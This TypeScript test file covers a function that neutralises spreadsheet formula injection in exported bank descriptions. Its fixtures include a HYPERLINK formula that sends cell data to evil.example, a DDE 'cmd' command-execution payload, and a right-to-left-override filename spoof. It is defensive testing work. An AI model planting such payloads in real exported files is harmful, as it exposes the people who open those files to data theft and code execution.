import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decimalCell, neutraliseCell, REPLACEMENT_CHARACTER } from './spreadsheet-safety';

const STARTS_LIKE_A_FORMULA = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
// eslint-disable-next-line no-control-regex -- the test looks for control characters on purpose
const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** Any text, half of the time starting with something a spreadsheet treats specially. */
const cellText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u0000', '\u202e', '\uff1d', "'"), fc.string({ unit: 'binary' }))
    .map(([start, rest]) => start + rest),
);

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\n=1', "'\n=1"],
    ['  =1+1', "'  =1+1"],
    ['\uff1dSUM(A1)', "'\uff1dSUM(A1)"],
  ])('puts a quote before a bank description that a spreadsheet would run: %j', (hostile, expected) => {
    expect(neutraliseCell(hostile)).toBe(expected);
  });

  it('turns a leading carriage return into a line feed and quotes the cell', () => {
    expect(neutraliseCell('\r=1')).toBe("'\n=1");
  });

  it('replaces a NUL and other control characters so they cannot hide text', () => {
    expect(neutraliseCell('\u0000')).toBe(`'${REPLACEMENT_CHARACTER}`);
    expect(neutraliseCell('PAYEE\u0000=1')).toBe(`PAYEE${REPLACEMENT_CHARACTER}=1`);
    expect(neutraliseCell('A\u001bB\u007fC\u0085D')).toBe(`A${REPLACEMENT_CHARACTER}B${REPLACEMENT_CHARACTER}C${REPLACEMENT_CHARACTER}D`);
  });

  it('replaces a right-to-left override that would reverse what the reader sees', () => {
    expect(neutraliseCell('INVOICE \u202Efdp.exe')).toBe(`INVOICE ${REPLACEMENT_CHARACTER}fdp.exe`);
  });

  it('keeps embedded tabs and line breaks, normalising CRLF to LF', () => {
    expect(neutraliseCell('line one\r\nline two\tcol')).toBe('line one\nline two\tcol');
  });

  it('leaves ordinary descriptions, including a hyphen or plus inside the text, unchanged', () => {
    for (const text of ['ACH DEBIT ACME PAYROLL', 'CHECK 1042', 'Fee - monthly', 'A+B Ltd', 'e-mail@x', "'quoted", '', 'Café Zürich']) {
      expect(neutraliseCell(text)).toBe(text);
    }
  });

  it('never leaves a cell that starts like a formula or holds a hidden control character', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const safe = neutraliseCell(text);
        expect(STARTS_LIKE_A_FORMULA.test(safe)).toBe(false);
        expect(HIDDEN.test(safe)).toBe(false);
        expect(safe.includes('\r')).toBe(false);
      }),
    );
  });

  it('is idempotent, so neutralising twice does not stack quotes', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const once = neutraliseCell(text);
        expect(neutraliseCell(once)).toBe(once);
      }),
    );
  });
});

describe('decimalCell', () => {
  it('writes negative amounts as plain numbers, not as neutralised text', () => {
    expect(decimalCell(-123450, 2)).toBe('-1234.50');
    expect(decimalCell(5, 3)).toBe('0.005');
    expect(decimalCell(-1500, 0)).toBe('-1500');
  });

  it('refuses an amount that is not an integer of minor units', () => {
    expect(() => decimalCell(12.5, 2)).toThrow(RangeError);
    expect(() => decimalCell(Number.MAX_SAFE_INTEGER + 1, 2)).toThrow(RangeError);
  });
});
